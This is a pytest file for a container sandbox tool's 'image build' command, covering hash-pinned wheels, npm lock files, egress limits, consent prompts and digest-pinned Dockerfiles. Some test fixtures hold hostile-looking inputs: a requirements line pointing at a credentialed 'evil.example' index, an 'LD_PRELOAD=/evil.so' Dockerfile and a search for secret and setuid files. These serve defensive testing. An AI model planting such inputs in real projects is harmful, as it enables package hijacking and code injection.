"""`pairlock image build`: packages from a registry on loopback become an image, in a session of its own."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import secrets
import shutil
import tarfile
import threading
import zipfile
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from agent_runner.container import NOBODY
from agent_runner.lineage import endorse, labels_of
from agent_runner.lineage_places import unreviewed
from sandbox.workspace import open_workspace
from tests.promises.conftest import lab  # noqa: F401 - the fixture
from tests.promises.pairlock import Said, pairlock
from tests.sandbox.images.made import busybox, forget, image, run_docker

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.promises.conftest import Lab

pytestmark = pytest.mark.engine

SERVER = "127.0.0.2"
"""A loopback address of this machine's that NO_PROXY in the container does not name."""
POLICY = """
version: 1
name: built
grant: [exec]
exec: {{image: "{image}", programs: any}}
commands: {{allow: [run]}}
"""
LEAVES = """
version: 1
name: leaves
grant: [files]
files: {access: direct}
commands: {allow: ["files *"]}
"""


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it
        pass


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """Serve a folder on loopback, and give its address and the folder."""
    folder = tmp_path / "served"
    folder.mkdir()

    def handler(*args: Any) -> _Quiet:
        return _Quiet(*args, directory=str(folder))

    with ThreadingHTTPServer((SERVER, 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://{SERVER}:{server.server_port}", folder
        server.shutdown()
        thread.join()


@pytest.fixture
def project(tmp_path: Path) -> Iterator[Path]:
    """Give a folder of a project, and remove the image that is made for it."""
    folder = tmp_path / f"app-{secrets.token_hex(4)}"
    folder.mkdir()
    (folder / "secret.txt").write_text("private\n")
    yield folder
    listed = run_docker("images", "--format", "{{.Repository}}:{{.Tag}}", f"pairlock/for-{folder.name}-*")
    for name in listed.split():
        forget(name)


def wheel(folder: Path, name: str, version: str, code: str) -> str:
    """Put a wheel with one module and one program into a simple index, and return its hash."""
    place = folder / "simple" / name
    place.mkdir(parents=True, exist_ok=True)
    info = f"{name}-{version}.dist-info"
    path = place / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr(f"{name}.py", code)
        file.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        file.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        file.writestr(f"{info}/entry_points.txt", f"[console_scripts]\n{name}-say = {name}:say\n")
        file.writestr(f"{info}/RECORD", "")
    (place / "index.html").write_text(f'<a href="{path.name}">{path.name}</a>')
    return hashlib.sha256(path.read_bytes()).hexdigest()


def build(project: Path, state: Path, *words: str) -> Said:
    """Build the project's image without asking."""
    return pairlock("image", "build", "--for", str(project), "--yes", "--json", *words, state=state)


def test_a_projects_packages_become_an_image_that_sessions_run_on(
    lab: Lab,  # noqa: F811 - the fixture
    served: tuple[str, Path],
    project: Path,
    new_state: Callable[[], Path],
) -> None:
    """By hash; its programs are on PATH, `python` and `pytest` see its modules; the host's log names all."""
    url, folder = served
    digest = wheel(folder, "greeting", "1.0", "def say():\n    print('hello', __name__)\n")
    (project / "requirements.txt").write_text(f"greeting==1.0 --hash=sha256:{digest}\n")
    (project / "test_it.py").write_text("import greeting\n")
    state = new_state()

    made = build(project, state, "--index", f"{url}/simple").json()
    ran = lab.run(
        POLICY.format(image=made["name"]),
        [
            "run greeting-say",
            "run -- python -c 'import greeting, sys; print(greeting.__cached__, sys.prefix)'",
            "run -- pytest --version",
            "run -- sh -c 'find / -name secret.txt -o -perm /6000 -type f 2>/dev/null'",
        ],
        state=state,
    )

    assert made["programs"] == ["greeting-say"]
    assert [seen.exit_code for seen in ran.seen[:3]] == [0, 0, 0]
    assert ran.seen[0].text == "hello greeting"
    assert ran.seen[1].text.endswith(" /opt/pairlock/python")
    assert "/site-packages/__pycache__/greeting" in ran.seen[1].text
    assert not any(word in ran.seen[3].text for word in ("secret.txt", "/bin/", "/opt/"))
    assert ran.entries("sandbox.created")[0]["image_digest"] == made["image"]
    log = [json.loads(line) for line in (state / "ledger.jsonl").read_text().splitlines()]
    built = [entry["body"] for entry in log if entry["type"] == "image.built"]
    assert [(entry["image"], entry["session"], entry["made_of"]) for entry in built] == [
        (made["image"], made["session"], "requirements.txt")
    ]


def test_the_session_that_builds_sees_the_manifests_and_reaches_the_registry_alone(
    served: tuple[str, Path], project: Path, new_state: Callable[[], Path]
) -> None:
    """Its ledger says which hosts were asked; a package from elsewhere is denied, and no image is made."""
    url, folder = served
    (folder / "simple" / "away").mkdir(parents=True)
    (folder / "simple" / "away" / "index.html").write_text(
        '<a href="http://127.0.0.3:9/away-1.0-py3-none-any.whl">away-1.0-py3-none-any.whl</a>'
    )
    (project / "requirements.txt").write_text("away==1.0\n")
    state = new_state()

    said = build(project, state, "--index", f"{url}/simple")

    assert said.returncode == 1
    assert "installing Python packages failed" in said.stderr
    entries = _session_entries(state)
    opened = {(e["body"]["host"], e["body"]["verdict"]) for e in entries if e["type"] == "egress.opened"}
    assert opened == {(SERVER, "allowed"), ("127.0.0.3", "denied")}
    assert run_docker("images", "--quiet", f"pairlock/for-{project.name}-*") == ""


def test_a_wheel_with_another_hash_makes_no_image(
    served: tuple[str, Path], project: Path, new_state: Callable[[], Path]
) -> None:
    """Exit 1, pip's own words, and where the rest stands."""
    url, folder = served
    wheel(folder, "greeting", "1.0", "x = 1\n")
    (project / "requirements.txt").write_text(f"greeting==1.0 --hash=sha256:{'0' * 64}\n")

    said = build(project, new_state(), "--index", f"{url}/simple")

    assert said.returncode == 1
    assert "DO NOT MATCH THE HASHES" in said.stderr
    assert "hint: `pairlock audit show" in said.stderr


def test_nothing_is_sent_before_a_person_agrees(project: Path, new_state: Callable[[], Path]) -> None:
    """Without a terminal and without --yes: what would be sent is shown, exit 2, no session."""
    (project / "requirements.txt").write_text("greeting==1.0\n--index-url http://me:word@evil.example/\n")
    state = new_state()

    said = pairlock(
        "image", "build", "--for", str(project), "--index", "http://127.0.0.2:9/simple", state=state
    )

    assert said.returncode == 2
    assert "sends    requirements.txt" in said.stderr
    assert "without  line 2: --index-url\n" in said.stderr
    assert "reaches  127.0.0.2:9 (at 127.0.0.2, loopback)" in said.stderr
    assert "evil.example" not in said.stderr
    assert not (state / "sessions").exists()


def test_what_a_session_with_files_left_in_the_manifests_is_sent_nowhere_before_a_review(
    lab: Lab,  # noqa: F811 - the fixture
    served: tuple[str, Path],
    project: Path,
    new_state: Callable[[], Path],
) -> None:
    """The name of a package is a private text there, which the build would ask a registry for: exit 3."""
    url, folder = served
    wheel(folder, "private", "1.0", "x = 1\n")
    state = new_state()
    if os.getuid() == 0:  # root's container runs as somebody else, who has to own what he writes directly
        for path in (project, *project.iterdir()):
            os.chown(path, NOBODY, NOBODY)
    left = lab.run(LEAVES, ["files write requirements.txt --content private"], workspace=project, state=state)
    assert (project / "requirements.txt").read_text() == "private", left.seen[0].text
    digest = hashlib.sha256(b"FROM scratch\n").hexdigest()
    (project / "Dockerfile").write_text("FROM scratch\n")

    refused = build(project, state, "--index", f"{url}/simple")
    by_dockerfile = build(project, state, "--unsafe-dockerfile", digest)
    identity = open_workspace(project, state=state).identity
    endorse(state, identity, unreviewed(labels_of(state), identity))
    reviewed = build(project, state, "--index", f"{url}/simple")

    assert [said.returncode for said in (refused, by_dockerfile)] == [3, 3]
    assert left.result.session in refused.stderr
    assert "`network+exec` makes three with what nobody has reviewed" in refused.stderr
    assert "`pairlock review" in refused.stderr
    assert reviewed.returncode == 0, reviewed.stderr
    assert len(list((state / "sessions").iterdir())) == 2, "what was refused began no session"


def test_the_list_says_what_is_outdated_and_removing_takes_ours_alone(
    served: tuple[str, Path], project: Path, new_state: Callable[[], Path]
) -> None:
    """After a change of the manifests; and `remove` asks first."""
    url, folder = served
    wheel(folder, "greeting", "1.0", "x = 1\n")
    (project / "requirements.txt").write_text("greeting==1.0\n")
    state = new_state()
    made = build(project, state, "--index", f"{url}/simple").json()

    def row() -> dict[str, Any]:
        rows = pairlock("image", "list", "--json", state=state).json()
        found: dict[str, Any] = next(row for row in rows if row["name"] == made["name"])
        return found

    fresh = row()
    (project / "requirements.txt").write_text("greeting==1.0\nother==1\n")
    stale = row()
    others = pairlock("image", "remove", "exp/bb:1", "--yes", state=state)
    asked = pairlock("image", "remove", made["name"], state=state)
    removed = pairlock("image", "remove", made["image"][7:20], "--yes", state=state)

    assert (fresh["newest"], fresh["kind"], stale["newest"]) == ("yes", "project", "no")
    assert (others.returncode, "is no image that pairlock made" in others.stderr) == (2, True)
    assert (asked.returncode, "nobody can be asked" in asked.stderr) == (2, True)
    assert (removed.returncode, made["name"] in removed.stdout) == (0, True)
    assert run_docker("images", "--quiet", made["name"]) == ""
    assert '"image.removed"' in (state / "ledger.jsonl").read_text()


def test_a_dockerfile_is_built_only_by_the_digest_of_what_a_person_read(
    lab: Lab,  # noqa: F811 - the fixture
    project: Path,
    new_state: Callable[[], Path],
) -> None:
    """With the manifests and nothing else of the folder; another one is exit 3, and none is guessed."""
    (project / "requirements.txt").write_text("greeting==1.0\n")
    state = new_state()
    with image(*busybox()) as base:
        text = f"FROM {base}\nENV LD_PRELOAD=/evil.so\nCOPY . /context/\n"
        (project / "Dockerfile").write_text(text)
        digest = hashlib.sha256(text.encode()).hexdigest()

        other = build(project, state, "--unsafe-dockerfile", "0" * 64)
        short = build(project, state, "--unsafe-dockerfile", digest[:8])
        made = build(project, state, "--unsafe-dockerfile", digest)
        named = made.json()["name"].removesuffix(":latest")
        ran = lab.run(POLICY.format(image=named), ["run ls /context", "run env"], state=state)
        rows = pairlock("image", "list", "--json", state=state).json()

    assert (other.returncode, "is not the one that you trust" in other.stderr) == (3, True)
    assert (short.returncode, "is no digest" in short.stderr) == (2, True)
    assert "warning: " in made.stderr
    assert ran.seen[0].text.split() == ["Dockerfile", "requirements.txt"]
    assert "evil" not in ran.seen[1].text
    assert [row["newest"] for row in rows if row["image"] == made.json()["image"]] == ["yes"]


@pytest.mark.long
@pytest.mark.skipif(
    not (Path(shutil.which("npm") or "/").resolve().parent.parent / "node_modules/semver").is_dir(),
    reason="needs a Node.js whose npm carries its modules, as nodejs.org's does",
)
def test_npm_packages_become_an_image_too(
    lab: Lab,  # noqa: F811 - the fixture
    served: tuple[str, Path],
    project: Path,
    new_state: Callable[[], Path],
) -> None:
    """From a lock file with integrity; the project's own scripts are not run, its packages' are."""
    url, folder = served
    integrity = _npm_package(folder)
    (project / "package.json").write_text(
        json.dumps(
            {
                "name": "x",
                "version": "1.0.0",
                "scripts": {"prepare": "exit 9"},
                "dependencies": {"hail": "1.0.0"},
            }
        )
    )
    locked = {"version": "1.0.0", "resolved": f"{url}/hail/-/hail-1.0.0.tgz", "integrity": integrity}
    packages = {
        "": {"name": "x", "version": "1.0.0", "dependencies": {"hail": "1.0.0"}},
        "node_modules/hail": {**locked, "hasInstallScript": True, "bin": {"hail": "cli.js"}},
    }
    (project / "package-lock.json").write_text(
        json.dumps(
            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages}
        )
    )
    state = new_state()

    made = build(project, state, "--index", f"npm={url}/").json()
    ran = lab.run(
        POLICY.format(image=made["name"]), ["run hail", "run -- cat /node_modules/hail/made"], state=state
    )

    assert made["programs"] == ["hail"]
    assert [seen.text for seen in ran.seen[:2]] == ["hail from npm", "by its script"]
    removed = pairlock("image", "remove", "pairlock/starter-node", "--yes", state=state)
    assert removed.returncode in (0, 4)


def _npm_package(folder: Path) -> str:
    """Put a package with a program and an install script into a folder, and return its integrity."""
    manifest = {
        "name": "hail",
        "version": "1.0.0",
        "bin": {"hail": "cli.js"},
        "scripts": {"postinstall": "echo by its script > made"},
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, text in (
            ("package.json", json.dumps(manifest)),
            ("cli.js", "#!/usr/bin/env node\nconsole.log('hail from npm')\n"),
        ):
            member = tarfile.TarInfo(f"package/{name}")
            member.size, member.mode = len(text), 0o755
            tar.addfile(member, io.BytesIO(text.encode()))
    raw = buffer.getvalue()
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(raw).digest()).decode()
    place = folder / "hail" / "-"
    place.mkdir(parents=True)
    (place / "hail-1.0.0.tgz").write_bytes(raw)
    return integrity


def _session_entries(state: Path) -> list[dict[str, Any]]:
    """Return every entry of the one session of a state folder."""
    (ledger,) = (state / "sessions").glob("*/events.jsonl")
    return [json.loads(line) for line in ledger.read_text().splitlines()]
